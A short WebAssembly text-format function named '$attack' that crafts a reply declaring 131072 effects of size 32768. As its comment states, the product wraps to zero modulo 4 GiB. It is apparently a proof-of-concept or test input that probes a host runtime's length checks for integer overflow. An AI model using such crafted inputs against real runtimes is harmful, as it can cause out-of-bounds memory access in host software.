;; Effects whose number times size is 0 modulo 4 GiB.
(func $attack (param $req i32) (param $len i32) (result i64)
  (memory.fill (i32.const 131072) (i32.const 0) (i32.const 64))
  (i64.store offset=0 (i32.const 131072) (i64.const 0x10040)) ;; reply
  (i64.store offset=8 (i32.const 131072) (i64.const 0x800000000000)) ;; effect_size 32768
  (i64.store offset=16 (i32.const 131072) (i64.const 0x0002000000000040)) ;; 131 072 effects at 64
  (i64.const 0x0002000000000070))
